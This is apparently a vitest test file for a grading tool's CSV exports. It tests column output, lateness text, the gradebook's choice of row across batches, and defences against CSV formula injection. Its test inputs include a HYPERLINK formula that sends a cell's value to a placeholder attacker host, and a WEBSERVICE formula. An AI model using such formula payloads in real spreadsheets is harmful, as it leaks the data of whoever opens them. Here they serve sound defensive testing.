// CSV exports of results (`zinc batch results`, `zinc collections gradebook`, and the API's
// results and gradebook with Accept: text/csv): the columns a TA reads, lateness in words, and
// cells a spreadsheet would run as formulas neutralised: a text cell that starts with =, +, -,
// @, a tab or a carriage return gets a leading ', and stays quoted as RFC 4180 asks; numbers (a
// negative score) are written as they are. And the gradebook's rule for picking a student's
// row over several batches: the latest graded row wins, an ERRORED row never hides one.
import { describe, expect, it } from 'vitest';
import type { ResultRow } from '../src/core/batch-results.js';
import { pickLatestResults } from '../src/core/gradebook.js';
import { RESULT_COLUMNS, csvField, formatLateness, toCsv } from '../src/core/results-csv.js';

const row = (student: string, overrides: Partial<ResultRow> = {}): ResultRow => ({
  student,
  verdict: 'PASSED',
  score: 100,
  maxScore: 100,
  points: 2,
  maxPoints: 2,
  tests: [
    { test: 'stdioTest#1', verdict: 'PASSED', points: 1, maxPoints: 1 },
    { test: 'stdioTest#2', verdict: 'PASSED', points: 1, maxPoints: 1 },
  ],
  verdicts: { PASSED: 2, COMPILED: 1 },
  reason: null,
  delivery: 'dlv_1',
  submittedAt: '2026-10-01T00:00:00.000Z',
  late: false,
  lateBySecs: null,
  identicalTo: [],
  identicalGroup: null,
  batchId: 'batch-1',
  ...overrides,
});

describe('results as CSV', () => {
  it('has a headline verdict, score, raw points, late flag, reason and a points column per test', () => {
    const csv = toCsv([
      row('s1'),
      row('s2', {
        verdict: 'ERRORED',
        score: null,
        maxScore: null,
        points: null,
        maxPoints: null,
        tests: [],
        verdicts: {},
        reason: 'the sandbox could not start',
        late: true,
        lateBySecs: 3 * 3600 + 1200,
      }),
    ]).split('\n');
    expect(csv[0]).toBe([...RESULT_COLUMNS, 'stdioTest#1', 'stdioTest#2'].join(','));
    expect(csv[1]).toBe('s1,PASSED,100,100,2,2,,,,,,2026-10-01T00:00:00.000Z,dlv_1,batch-1,1,1');
    expect(csv[2]).toBe(
      's2,ERRORED,,,,,late,3h 20m,,,the sandbox could not start,2026-10-01T00:00:00.000Z,dlv_1,batch-1,,',
    );
    expect(csv.join('\n')).not.toMatch(/reports\/|COMPILED|\.json/);
  });

  it('says how late in words', () => {
    expect(formatLateness(null)).toBe('');
    expect(formatLateness(45)).toBe('45s');
    expect(formatLateness(61)).toBe('2m');
    expect(formatLateness(3600)).toBe('1h');
    expect(formatLateness(2 * 86_400 + 3600 + 5)).toBe('2d 1h');
  });

  it('neutralises a student ID that starts with = (a formula in a spreadsheet)', () => {
    const csv = toCsv([row('=HYPERLINK("http://evil.example/?"&A1,"click")', { tests: [] })]);
    expect(csv.split('\n')[1]).toBe(
      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",PASSED,100,100,2,2,,,,,,2026-10-01T00:00:00.000Z,dlv_1,batch-1`,
    );
  });

  it('prefixes every text cell starting with = + - @ tab or CR, and nothing else', () => {
    expect(csvField('=1+2')).toBe("'=1+2");
    expect(csvField('+1')).toBe("'+1");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(csvField('\t=1')).toBe("'\t=1");
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
    expect(csvField('s1')).toBe('s1');
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField('')).toBe('');
    expect(csvField(null)).toBe('');
    expect(csvField(-5)).toBe('-5'); // a number, not a formula
  });

  it('neutralises a reason, an identical student or a test name that would start a formula', () => {
    const csv = toCsv([
      row('s1', {
        score: -5,
        reason: '=WEBSERVICE("x")',
        identicalTo: ['@x', 's2'],
        identicalGroup: 1,
        tests: [{ test: '-stage#1', verdict: 'PASSED', points: 1, maxPoints: 1 }],
      }),
    ]).split('\n');
    expect(csv[0]!.endsWith(",batch,'-stage#1")).toBe(true);
    expect(csv[1]).toBe(
      `s1,PASSED,-5,100,2,2,,,1,'@x s2,"'=WEBSERVICE(""x"")",2026-10-01T00:00:00.000Z,dlv_1,batch-1,1`,
    );
  });
});

describe("the gradebook's pick over batches", () => {
  const graded = (student: string, batchId: string, verdict = 'PASSED') =>
    row(student, { batchId, verdict });

  it('keeps the latest graded row, and never lets an ERRORED row hide a graded one', () => {
    const picked = pickLatestResults([
      [graded('s1', 'b1', 'WRONG_OUTPUT'), graded('s2', 'b1'), graded('s3', 'b1', 'ERRORED')],
      [graded('s1', 'b2'), graded('s2', 'b2', 'ERRORED'), graded('s3', 'b2', 'ERRORED')],
    ]);
    expect([...picked.values()].map((r) => [r.student, r.batchId, r.verdict])).toEqual([
      ['s1', 'b2', 'PASSED'], // regraded: the regrade wins
      ['s2', 'b1', 'PASSED'], // ERRORED later: the earlier result stands
      ['s3', 'b2', 'ERRORED'], // never graded: the latest ERRORED row
    ]);
  });
});
